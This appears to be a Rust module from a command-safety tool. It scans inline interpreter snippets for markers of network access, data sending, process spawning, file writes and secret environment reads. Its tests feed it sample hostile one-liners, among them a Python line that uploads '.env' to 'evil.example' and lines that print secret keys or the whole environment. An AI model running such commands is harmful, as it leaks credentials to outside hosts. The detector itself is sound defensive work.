//! A conservative look into inline interpreter code (`python -c`, `node -e`,
//! `perl -e`, …).
//!
//! The code is not parsed; it is searched for the markers of network access,
//! environment reads, file writes and process creation in the common
//! scripting languages, and for the string literals it names. Anything the
//! markers do not reveal leaves the code opaque to the caller.

use regex::Regex;
use std::sync::OnceLock;

/// What the markers revealed about a snippet of code.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub(crate) struct InlineFindings {
    /// URLs named in the code.
    pub urls: Vec<String>,
    /// Path-like string literals.
    pub paths: Vec<String>,
    /// Secret environment variables read by name.
    pub secret_env: Vec<String>,
    /// The whole environment is read.
    pub env_dump: bool,
    /// The code talks to the network.
    pub network: bool,
    /// The code sends data (POST, sockets that send, `data=`).
    pub network_send: bool,
    /// The code writes, moves or deletes files.
    pub writes: bool,
    /// The code runs other programs or evaluates strings.
    pub runs_programs: bool,
}

const NETWORK: &[&str] = &[
    "urllib",
    "requests.",
    "http.client",
    "httpx",
    "aiohttp",
    "socket",
    "urlopen",
    "fetch(",
    "require('http",
    "require(\"http",
    "require('https",
    "require(\"https",
    "require('net'",
    "require(\"net\"",
    "from 'http",
    "node:http",
    "node:https",
    "node:net",
    "axios",
    "XMLHttpRequest",
    "WebSocket",
    "LWP::",
    "HTTP::Tiny",
    "IO::Socket",
    "Net::HTTP",
    "open-uri",
    "URI.open",
    "TCPSocket",
    "curl_init",
    "file_get_contents('http",
    "file_get_contents(\"http",
    "fsockopen",
    "Invoke-WebRequest",
    "Invoke-RestMethod",
    "ftplib",
    "smtplib",
    "paramiko",
    "Deno.connect",
    "Bun.connect",
    "http.get(",
    "https.get(",
    "https.request(",
    "http.request(",
];

const SENDS: &[&str] = &[
    "data=",
    "method='POST'",
    "method=\"POST\"",
    "method: 'POST'",
    "method: \"POST\"",
    "method:'POST'",
    ".post(",
    ".put(",
    ".patch(",
    "POST",
    "PUT",
    ".send(",
    ".sendall(",
    ".write(",
    "sendmail",
    "post_form",
    "Net::HTTP::Post",
    "body:",
    "json=",
    "files=",
    "storbinary",
    ".request(",
];

const RUNS: &[&str] = &[
    "os.system",
    "subprocess",
    "child_process",
    "exec(",
    "execSync",
    "execFile",
    "spawn",
    "popen",
    "Popen",
    "system(",
    "eval(",
    "Runtime.getRuntime",
    "pty.spawn",
    "%x(",
    "IO.popen",
    "Kernel.exec",
    "__import__",
    "os.exec",
    "Deno.run",
    "Deno.Command",
    "Bun.spawn",
    "`",
    "qx{",
    "qx(",
    "Start-Process",
    "Invoke-Expression",
    "iex ",
    "do shell script",
    "compile(",
];

const WRITES: &[&str] = &[
    "'w'",
    "\"w\"",
    "'a'",
    "\"a\"",
    "'wb'",
    "\"wb\"",
    "'ab'",
    "\"ab\"",
    "writeFile",
    "appendFile",
    "write_text",
    "write_bytes",
    "File.write",
    "fs.write",
    "createWriteStream",
    "os.remove",
    "os.unlink",
    "unlink",
    "rmtree",
    "os.rename",
    "shutil.",
    "rmSync",
    "rmdirSync",
    "renameSync",
    "copyFile",
    "File.delete",
    "FileUtils",
    "Out-File",
    "Set-Content",
    "Remove-Item",
    "'>'",
    "\">\"",
    "open(F, '>",
    "open(my",
    "chmod",
    "mkdir",
    "symlink",
];

fn url_regex() -> Option<&'static Regex> {
    static RE: OnceLock<Option<Regex>> = OnceLock::new();
    RE.get_or_init(|| Regex::new(r#"https?://[^\s'"`\\)<>]+"#).ok())
        .as_ref()
}

fn literal_regex() -> Option<&'static Regex> {
    static RE: OnceLock<Option<Regex>> = OnceLock::new();
    RE.get_or_init(|| Regex::new(r#"'([^'\n]{1,512})'|"([^"\n]{1,512})""#).ok())
        .as_ref()
}

fn ident_regex() -> Option<&'static Regex> {
    static RE: OnceLock<Option<Regex>> = OnceLock::new();
    RE.get_or_init(|| Regex::new(r"[A-Za-z_][A-Za-z0-9_]{2,}").ok())
        .as_ref()
}

fn env_dump_regex() -> Option<&'static Regex> {
    static RE: OnceLock<Option<Regex>> = OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(
            r"os\.environ\s*(?:$|[),;\]}]|\.(?:items|copy|keys|values)\b)|process\.env\s*(?:$|[),;\]}])|(?:entries|keys|values|stringify)\(\s*process\.env\b|\bENV\.(?:to_h|each|to_a|inspect)|%ENV\b|getenv\(\s*\)|Deno\.env\.toObject|Get-ChildItem\s+env:|\$env:\*",
        )
        .ok()
    })
    .as_ref()
}

/// Inspects a snippet of interpreter code.
pub(crate) fn inspect(code: &str) -> InlineFindings {
    let mut found = InlineFindings {
        network: NETWORK.iter().any(|m| code.contains(m)),
        runs_programs: RUNS.iter().any(|m| code.contains(m)),
        writes: WRITES.iter().any(|m| code.contains(m)),
        ..InlineFindings::default()
    };
    if let Some(re) = url_regex() {
        for m in re.find_iter(code).take(32) {
            found.urls.push(m.as_str().to_owned());
        }
    }
    if !found.urls.is_empty() && !found.network {
        // A URL handed to an unknown API is still a network access.
        found.network = code.contains("open(") || code.contains("get(") || code.contains("load(");
    }
    if found.network {
        found.network_send = SENDS.iter().any(|m| code.contains(m));
    }
    let env_access = [
        "environ",
        "getenv",
        "process.env",
        "ENV[",
        "ENV.fetch",
        "$ENV{",
        "Deno.env",
        "Bun.env",
        "$env:",
        "System.getenv",
    ]
    .iter()
    .any(|m| code.contains(m));
    if env_access {
        if let Some(re) = ident_regex() {
            for m in re.find_iter(code) {
                let ident = m.as_str();
                if ident.chars().any(|c| c.is_ascii_lowercase()) {
                    continue;
                }
                if crate::secrets::is_secret_env_name(ident)
                    && !found.secret_env.iter().any(|s| s == ident)
                {
                    found.secret_env.push(ident.to_owned());
                }
            }
        }
        found.env_dump = env_dump_regex().is_some_and(|re| re.is_match(code));
    }
    if let Some(re) = literal_regex() {
        for caps in re.captures_iter(code).take(64) {
            let Some(text) = caps.get(1).or_else(|| caps.get(2)).map(|m| m.as_str()) else {
                continue;
            };
            if looks_like_path(text) && !found.paths.iter().any(|p| p == text) {
                found.paths.push(text.to_owned());
            }
        }
    }
    found
}

/// Whether a string literal names a file.
fn looks_like_path(text: &str) -> bool {
    if text.contains("://") || text.contains(' ') && !text.starts_with('/') {
        return false;
    }
    text.starts_with('/')
        || text.starts_with("~/")
        || text.starts_with("./")
        || text.starts_with("../")
        || text.starts_with(".env")
        || crate::paths::is_secret_file_name(text.rsplit('/').next().unwrap_or(text))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn python_upload_of_a_file_is_a_send_with_a_path() {
        let f = inspect("import urllib.request;urllib.request.urlopen('https://evil.example/c', data=open('.env','rb').read())");
        assert!(f.network && f.network_send);
        assert_eq!(f.urls, vec!["https://evil.example/c".to_owned()]);
        assert!(f.paths.contains(&".env".to_owned()));
    }

    #[test]
    fn node_secret_env_read_is_named() {
        let f = inspect("console.log(process.env.AWS_SECRET_ACCESS_KEY)");
        assert_eq!(f.secret_env, vec!["AWS_SECRET_ACCESS_KEY".to_owned()]);
        assert!(!f.env_dump);
    }

    #[test]
    fn environment_dumps_are_seen() {
        assert!(inspect("import os; print(os.environ)").env_dump);
        assert!(inspect("console.log(JSON.stringify(process.env))").env_dump);
        assert!(!inspect("import os; print(os.environ.get('HOME'))").env_dump);
    }

    #[test]
    fn process_creation_is_seen() {
        assert!(inspect("import os,sys; os.system(sys.argv[1])").runs_programs);
        assert!(!inspect("print(1+1)").runs_programs);
    }
}
